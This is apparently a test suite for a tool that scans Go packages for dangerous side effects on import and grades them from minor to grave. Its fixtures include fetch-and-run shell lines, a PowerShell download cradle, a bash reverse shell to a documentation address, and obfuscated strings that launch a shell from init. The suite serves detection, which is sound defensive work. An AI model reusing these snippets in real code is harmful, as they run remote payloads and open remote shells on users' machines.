import { describe, expect, test } from '../../kit.ts';
import { examine } from './modules.ts';

// The samples are inert: they are never compiled or run, and name no real host.

function host(code: string, ...imports: readonly string[]): Readonly<Record<string, string>> {
  return { 'host.go': `package host\n\n${imports.map((path) => `import "${path}"\n`).join('')}\n${code}\n` };
}

describe('what is told of an effect', () => {
  test('where it starts, how it goes on, and what was hidden', () => {
    const { effects, unread } = examine({
      'a.go':
        'package host\n\nimport "example.com/host/internal/work"\n\nfunc init() { setup() }\n\nfunc setup() {\n\twork.Fetch()\n}\n',
      'internal/work/w.go':
        'package work\n\nimport "os/exec"\n\nfunc Fetch() {\n\tcmd := string([]rune{0x2f, 0x62, 0x69, 0x6e, 0x2f, 0x73, 0x68})\n\texec.Command(cmd).Start()\n}\n',
    });
    expect(unread).toEqual([]);
    expect(effects).toEqual([
      {
        trigger: 'init',
        name: 'init',
        packagePath: 'example.com/host',
        isMain: false,
        builtOnlyFor: null,
        file: 'a.go',
        line: 4,
        acts: ['process'],
        chain: ['init', 'setup', 'Fetch'],
        sink: { callee: 'exec.Command', file: 'internal/work/w.go', line: 6 },
        assembled: [{ how: 'rune-array', text: '/bin/sh', pieces: 7, file: 'internal/work/w.go', line: 5 }],
        weight: 'grave',
        sentence:
          'init starts a process (exec.Command) with a text put together from 7 runes, by way of setup and Fetch.',
      },
    ]);
  });

  test('a package variable, and the systems that it is built for', () => {
    const { effects } = examine({
      'a_windows.go':
        'package host\n\nimport "net"\n\nvar first, second = dial()\n\nfunc dial() (net.Conn, error) { return net.Dial("tcp", "192.0.2.1:80") }\n',
    });
    expect(
      effects.map(({ trigger, name, builtOnlyFor, acts, weight, sentence }) => [
        trigger,
        name,
        builtOnlyFor,
        acts,
        weight,
        sentence,
      ]),
    ).toEqual([
      [
        'package variable',
        'first, second',
        'windows',
        ['network'],
        'telling',
        'Package variable first, second opens a connection (net.Dial), by way of dial.',
      ],
    ]);
  });

  test('package main is told apart', () => {
    const { effects } = examine({
      'cmd/x/main.go':
        'package main\n\nimport "os/exec"\n\nfunc init() { exec.Command("a").Run() }\nfunc main() {}\n',
    });
    expect(effects.map(({ isMain, packagePath }) => [isMain, packagePath])).toEqual([
      [true, 'example.com/host/cmd/x'],
    ]);
  });

  test('names are cut, and the gravest comes first', () => {
    const name = 'x'.repeat(500);
    const { effects } = examine(
      host(
        `func init() { exec.Command("a").Run() }\nvar ${name} = exec.Command("sh", "-c", "curl http://drop.example.invalid/a | sh").Run()`,
        'os/exec',
      ),
    );
    expect(effects.map(({ weight }) => weight)).toEqual(['grave', 'telling']);
    expect(effects[0]?.sentence).toBe(
      `Package variable ${'x'.repeat(39)}… starts a process (exec.Command) that fetches something.`,
    );
  });
});

describe('what is grave though nothing is hidden', () => {
  test.each([
    [
      'a shell line that fetches',
      'exec.Command("sh", "-c", "wget -qO- http://drop.example.invalid/a | bash").Start()',
    ],
    [
      'a shell line in a variable',
      'line := "curl -s drop.example.invalid | sh"\nexec.Command("/bin/bash", "-c", line).Run()',
    ],
    [
      'a program that fetches',
      'exec.Command("curl", "-o", "/tmp/a", "https://drop.example.invalid/a").Run()',
    ],
    [
      'PowerShell',
      'exec.Command("powershell", "-NoProfile", "IEX (New-Object Net.WebClient).DownloadString(\'http://drop.example.invalid/a\')").Run()',
    ],
    ['encoded PowerShell', 'exec.Command("powershell.exe", "-enc", "SQBFAFgA").Run()'],
    [
      'a connection of the shell',
      'exec.Command("bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1").Run()',
    ],
    [
      'what was fetched, written and run',
      'r, _ := http.Get("http://drop.example.invalid/a")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile("/tmp/a", b, 0o755)\nexec.Command("/tmp/a").Start()',
    ],
    [
      'what was fetched and is run',
      'r, _ := http.Get("http://drop.example.invalid/a")\nb, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(b)).Start()',
    ],
    [
      'a shell at the end of a connection',
      'c, _ := net.Dial("tcp", "192.0.2.1:80")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c\ncmd.Run()',
    ],
  ])('%s', (_, code) => {
    const { effects } = examine(host(`func init() {\n${code}\n}`, 'io', 'net', 'net/http', 'os', 'os/exec'));
    expect(effects.map(({ weight, assembled }) => [weight, assembled])).toEqual([['grave', []]]);
  });

  test('what is fetched by one init and run by another', () => {
    const { effects } = examine(
      host(
        'func init() { r, _ := http.Get("http://drop.example.invalid/a")\nf, _ := os.Create("/tmp/a")\nio.Copy(f, r.Body) }\nfunc init() { exec.Command("/tmp/a").Run() }',
        'io',
        'net/http',
        'os',
        'os/exec',
      ),
    );
    expect(effects.map(({ weight }) => weight)).toEqual(['grave', 'telling']);
  });
});

describe('what honest modules do on import', () => {
  const NOTHING = [
    ['a pattern', 'var p = regexp.MustCompile("a+")', 'regexp'],
    [
      'a setting',
      'var home = os.Getenv("HOME")\nfunc init() { if runtime.GOOS == "windows" { home = "" } }',
      'os',
      'runtime',
    ],
    [
      'a client that is made',
      'var client = &http.Client{Timeout: 5}\nvar dialer = net.Dialer{}',
      'net/http',
      'net',
    ],
    [
      'a request that is made',
      'var req, _ = http.NewRequest("GET", "http://a.example.invalid", nil)',
      'net/http',
    ],
    [
      'a command that is made and not run',
      'var cmd = exec.Command("ls", string([]byte{104, 105, 106, 107, 108}))',
      'os/exec',
    ],
    ['a program that is looked up', 'var path, _ = exec.LookPath("git")', 'os/exec'],
    [
      'a handler that is registered',
      'func init() { http.HandleFunc("/", serve) }\nfunc serve(w http.ResponseWriter, r *http.Request) { exec.Command("ls").Run() }',
      'net/http',
      'os/exec',
    ],
    [
      'a command that is registered',
      'func init() { register(&job{run: func() { exec.Command("ls").Run() }}) }\ntype job struct { run func() }\nvar jobs []*job\nfunc register(j *job) { jobs = append(jobs, j) }',
      'os/exec',
    ],
    ['a function that is made and not called', 'var run = func() { exec.Command("ls").Run() }', 'os/exec'],
    [
      'a function that is wrapped and not called',
      'var run = wrap(func() { exec.Command("ls").Run() })\nfunc wrap(f func()) func() { return func() { f() } }',
      'os/exec',
    ],
    [
      'methods of the same names',
      'type engine struct{}\nfunc (engine) Run() {}\nfunc (engine) Start() {}\nfunc (engine) Do() {}\nfunc init() { var e engine\ne.Run()\ne.Start()\ne.Do() }\nfunc Use() { exec.Command("ls").Run() }',
      'os/exec',
    ],
    [
      'methods of values of unknown types',
      'func init() { other.New().Run()\nother.Default.Start() }\nfunc Use() { exec.Command("ls").Run() }',
      'example.org/other',
      'os/exec',
    ],
    [
      'tables of bytes',
      `var table = []byte{${'104, '.repeat(100)}}\nfunc Use() { exec.Command(string(table)).Run() }`,
      'os/exec',
    ],
    [
      'addresses that are read',
      'var group, _ = net.ResolveUDPAddr("udp", "224.0.0.1:1900")\nvar names, _ = net.Interfaces()',
      'net',
    ],
    [
      'a list of functions that is ranged over',
      'var jobs = []func(){one}\nvar tests = map[string]func(n *int){"two": two}\nfunc one() { exec.Command("ls").Run() }\nfunc two(n *int) { one() }\nfunc init() { for i, f := range jobs { all[i] = f }\nfor _, f := range tests { other.Add(f) } }\nvar all [1]func()',
      'os/exec',
      'example.org/other',
    ],
    ['a file that is read', 'var text, _ = os.ReadFile("/proc/self/status")', 'os'],
  ] as const;

  test.each(NOTHING.map(([name, code, ...imports]) => [name, code, imports] as const))(
    '%s',
    (_, code, imports) => {
      expect(examine(host(code, ...imports))).toEqual({ effects: [], unread: [] });
    },
  );

  const MINOR = [
    [
      'a library of the system',
      'var dll = windows.NewLazySystemDLL("kernel32.dll")\nvar proc = dll.NewProc("GetVersion")\nfunc init() { proc.Call() }',
      'golang.org/x/sys/windows',
    ],
    ['the address of the machine itself', 'func init() { net.LookupHost("localhost") }', 'net'],
    ['a folder that is made', 'func init() { os.MkdirAll("/tmp/cache", 0o755) }', 'os'],
  ] as const;

  test.each(MINOR.map(([name, code, ...imports]) => [name, code, imports] as const))(
    '%s is minor',
    (_, code, imports) => {
      const { effects } = examine(host(code, ...imports));
      expect(new Set(effects.map(({ weight }) => weight))).toEqual(new Set(['minor']));
    },
  );

  test('a function that is ranged over is called', () => {
    const iterators = ['func(yield func() bool) { run() }', 'func(_ step) { run() }'];
    for (const iterator of iterators) {
      const { effects } = examine(
        host(
          `type step func() bool\nfunc init() { for range all { } }\nvar all = ${iterator}\nfunc run() { exec.Command("ls").Run() }`,
          'os/exec',
        ),
      );
      expect(
        effects.map(({ weight }) => weight),
        iterator,
      ).toEqual(['telling']);
    }
  });

  test('is told with the system of any file on the way', () => {
    const { effects } = examine({
      'a.go': 'package host\n\nfunc init() { times() }\n',
      'a_aix.go': 'package host\n\nfunc times() { run() }\n',
      'run.go': 'package host\n\nimport "os/exec"\n\nfunc run() { exec.Command("ls").Run() }\n',
    });
    expect(effects.map(({ builtOnlyFor }) => builtOnlyFor)).toEqual(['aix']);
  });

  const OUTSIDE = 'import "os/exec"\n\nfunc init() { exec.Command("a").Run() }\n';

  test.each([
    ['a test', 'a_test.go', `package host\n\n${OUTSIDE}`],
    ['a file that is ignored', 'a.go', `//go:build ignore\n\npackage host\n\n${OUTSIDE}`],
    ['a file behind a tag', 'a.go', `//go:build integration\n\npackage host\n\n${OUTSIDE}`],
    ['a folder of test data', 'testdata/a.go', `package a\n\n${OUTSIDE}`],
    ['a folder with an underscore', 'x/_y/a.go', `package a\n\n${OUTSIDE}`],
    ['vendored code', 'vendor/example.org/a/a.go', `package a\n\n${OUTSIDE}`],
    ['a name with a point', '.a.go', `package a\n\n${OUTSIDE}`],
    ['text that is no Go file', 'a.txt', `package a\n\n${OUTSIDE}`],
  ])('%s is not imported', (_, path, text) => {
    expect(examine({ 'host.go': 'package host\n', [path]: text })).toEqual({ effects: [], unread: [] });
  });
});

describe('what is reached past the doors of packages', () => {
  test('a function that is linked by name', () => {
    const { effects } = examine({
      'a.go':
        'package host\n\nimport _ "unsafe"\n\n//go:linkname start syscall.forkExec\nfunc start(name string, argv []string, attr uintptr) (int, error)\n\nfunc init() { start(string([]byte{104, 101, 108, 108, 111}), nil, 0) }\n',
    });
    expect(effects.map(({ weight, acts }) => [weight, acts])).toEqual([['grave', ['process']]]);
  });
});

describe('what is far away', () => {
  test('behind many choices it is minor, behind plain wrappers it is not', () => {
    const wrappers = Array.from({ length: 40 }, (_, i) => `func f${i}() { f${i + 1}() }\n`).join('');
    const choices = Array.from(
      { length: 20 },
      (_, i) =>
        `func f${i}() { ${Array.from({ length: 8 }, (__, k) => `g${k}()`).join('; ')}; f${i + 1}() }\n`,
    ).join('');
    const rest = Array.from({ length: 8 }, (_, k) => `func g${k}() {}\n`).join('');
    const plain = examine(
      host(`func init() { f0() }\n${wrappers}func f40() { exec.Command("a").Run() }`, 'os/exec'),
    );
    const doubtful = examine(
      host(`func init() { f0() }\n${choices}${rest}func f20() { exec.Command("a").Run() }`, 'os/exec'),
    );
    expect([plain, doubtful].map(({ effects }) => effects[0]?.weight)).toEqual(['telling', 'minor']);
  });
});

describe('letters that texts are formatted with', () => {
  const dial = (code: string): ReturnType<typeof examine> =>
    examine(host(`func init() { net.Dial("tcp", at(os.Args)) }\n${code}`, 'net', 'os', 'bytes'));

  test.each([
    [
      'separators',
      "func at(s []string) string { var b bytes.Buffer\nb.WriteByte(' ')\nb.WriteByte(',')\nb.WriteByte('[')\nb.WriteByte(']')\nreturn b.String() }",
    ],
    ['texts that are joined', 'func at(s []string) string { return string([]byte("[" + s[0] + "]")) }'],
    [
      'letters that are compared with',
      "func at(s []string) string { return string(bytes.TrimFunc([]byte(s[0]), func(r rune) bool { switch r { case 'a', 'b', 'c': return true }\nreturn r == 'd' || r == 'e' || 'f' == r || r >= 'g' })) }",
    ],
    [
      'rests of a list',
      'func at(s []string) string { s = s[1:]\ns = s[1:]\ns = s[1:]\ns = s[1:]\nreturn s[0] }',
    ],
    [
      'bytes that are no letters',
      'func at(s []string) string { b := append([]byte(s[0]), 0)\nb = append(b, 1)\nb = append(b, 2)\nreturn string(b) }',
    ],
  ])('%s hide nothing', (_, code) => {
    expect(dial(code).effects.map(({ weight, assembled }) => [weight, assembled])).toEqual([['telling', []]]);
  });

  test.each([
    [
      'letters one by one',
      "func at(s []string) string { var b bytes.Buffer\nb.WriteByte('a')\nb.WriteByte('.')\nb.WriteByte('b')\nb.WriteByte('i')\nb.WriteByte('o')\nreturn b.String() }",
    ],
    [
      'letters by their code',
      'func at(s []string) string { b := append([]byte{}, 97)\nb = append(b, 46)\nb = append(b, 98)\nreturn string(b) }',
    ],
    [
      'letters picked from a text',
      'func at(s []string) string { a := "abcdefgh.i"\nreturn string(a[1]) + a[8:9] + a[0:1] + a[2:3] }',
    ],
  ])('%s hide a text', (_, code) => {
    expect(dial(code).effects.map(({ weight }) => weight)).toEqual(['grave']);
  });
});
